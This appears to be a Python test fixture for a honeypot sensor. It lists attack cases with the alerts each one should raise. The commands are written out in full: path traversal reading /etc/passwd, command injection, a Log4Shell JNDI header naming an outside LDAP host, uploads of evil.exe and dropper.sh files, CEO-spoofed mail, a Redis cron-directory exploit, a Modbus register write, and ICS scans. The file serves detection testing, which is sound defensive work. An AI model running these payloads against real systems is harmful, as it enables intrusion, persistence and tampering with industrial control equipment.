"""What attackers bring, ask and change, and contacts with ports that no service has."""

from sensor_support.attack import CURL, Attack
from sensor_support.namespaces import SENSOR6

SWAKS = ("swaks", "--helo", "attacker.example", "--from", "ceo@corp.example", "--to", "victim@corp.example")
NMAP = ("nmap", "-Pn", "-n")
_JNDI = ("-H", "X-Api-Version: ${jndi:ldap://192.0.2.9:1389/a}")
CONTENT = {
    "path traversal": Attack(
        "web",
        80,
        (*CURL, "http://ADDRESS/view.php?page=../../../../etc/passwd"),
        {"attack": "Path traversal"},
        "critical",
        "root:x:0:0",
    ),
    "command injection": Attack(
        "web",
        80,
        (*CURL, "http://ADDRESS/ping.php?ip=127.0.0.1%3Bid"),
        {"attack": "Command injection", "command": "id"},
        "critical",
        "uid=33(www-data)",
    ),
    "log4shell": Attack("web", 443, (*CURL, "https://ADDRESS/", *_JNDI), {"attack": "CVE-2021-44228"}, "critical"),
    "log4shell by IPv6": Attack(
        "web",
        443,
        (*CURL, "https://[ADDRESS]/", *_JNDI),
        {"attack": "CVE-2021-44228"},
        "critical",
        target=SENSOR6,
    ),
    "files": Attack(
        "netservices",
        445,
        ("smbclient", "//ADDRESS/public", "-U", r"CORP\alice%Summer2026", "-c", "put /etc/hostname evil.exe; ls"),
        {"username": "alice", "domain": "CORP", "hash": "alice::CORP:", "file": "public/evil.exe"},
        "high",
        "evil.exe",
    ),
    "files by ftp": Attack(
        "netservices",
        21,
        (*CURL, "-T", "/etc/hostname", "ftp://ADDRESS/incoming/dropper.sh"),
        {"username": "anonymous", "login": "accepted", "file": "incoming/dropper.sh"},
        "high",
        "226 Transfer complete.",
    ),
    "files by ftp and IPv6": Attack(
        "netservices",
        21,
        (*CURL, "-T", "/etc/hostname", "ftp://[ADDRESS]/incoming/dropper6.sh"),
        {"username": "anonymous", "login": "accepted", "file": "incoming/dropper6.sh"},
        "high",
        "226 Transfer complete.",
        target=SENSOR6,
    ),
    "mail": Attack(
        "netservices",
        25,
        (*SWAKS, "--server", "ADDRESS", "--body", "Open this."),
        {"client": "attacker.example", "sender": "ceo@corp.example", "recipients": "victim@corp.example"},
        "high",
        "220 files07.corp.example ESMTP Postfix (Debian/GNU)",
    ),
    "redis": Attack(
        "netservices",
        6379,
        ("redis-cli", "-h", "ADDRESS"),
        {"command": "SET x 1", "exploit": "CONFIG SET dir /var/spool/cron"},
        "high",
        "OK",
        said="SET x 1\nCONFIG SET dir /var/spool/cron\n",
    ),
    "modbus": Attack(
        "conpot",
        502,
        ("mbpoll", "-m", "tcp", "-a", "7", "-1", "-r", "101", "ADDRESS", "4242"),
        {"write": "unit=7 function=6 (write register) address=100 value=4242"},
        "high",
        "Written 1 references",
    ),
    "s7": Attack(
        "conpot",
        102,
        (*NMAP, "-p102", "--script", "+s7-info", "ADDRESS"),
        {"szl": "0x001c"},
        "low",
        "System Name: PUMP-07",
    ),
    "snmp": Attack(
        "conpot",
        161,
        ("snmpget", "-v2c", "-c", "public", "ADDRESS", ".1.3.6.1.2.1.1.5.0"),
        {"oid": "v2c Get 1.3.6.1.2.1.1.5.0 community=public"},
        "low",
        "PUMP-07",
        protocol="udp",
    ),
    "snmp by IPv6": Attack(
        "conpot",
        161,
        ("snmpget", "-v2c", "-c", "public", "udp6:[ADDRESS]", ".1.3.6.1.2.1.1.6.0"),
        {"oid": "v2c Get 1.3.6.1.2.1.1.6.0 community=public"},
        "low",
        target=SENSOR6,
        protocol="udp",
    ),
    "bacnet": Attack(
        "conpot",
        47808,
        (*NMAP, "-sU", "-p47808", "--script", "+bacnet-info", "ADDRESS"),
        {},
        "low",
        "PUMP-07",
        protocol="udp",
    ),
}
_GET = {"payload": "GET /secret HTTP/1.1"}
UNTAKEN = {
    "any port": Attack("recon", 8888, (*CURL, "http://ADDRESS:8888/secret"), _GET, "low"),
    "any port by IPv6": Attack(
        "recon",
        8888,
        (*CURL, "http://[ADDRESS]:8888/secret"),
        _GET,
        "low",
        target=SENSOR6,
    ),
    "datagram": Attack(
        "recon", 4000, ("bash", "-c", "echo hello >/dev/udp/ADDRESS/4000"), {"payload": "hello"}, "low", protocol="udp"
    ),
    "ping": Attack("recon", None, ("ping", "-c", "1", "ADDRESS"), {}, "info", protocol="icmp"),
    "ping by IPv6": Attack("recon", None, ("ping", "-c", "1", "ADDRESS"), {}, "info", target=SENSOR6, protocol="icmp"),
}
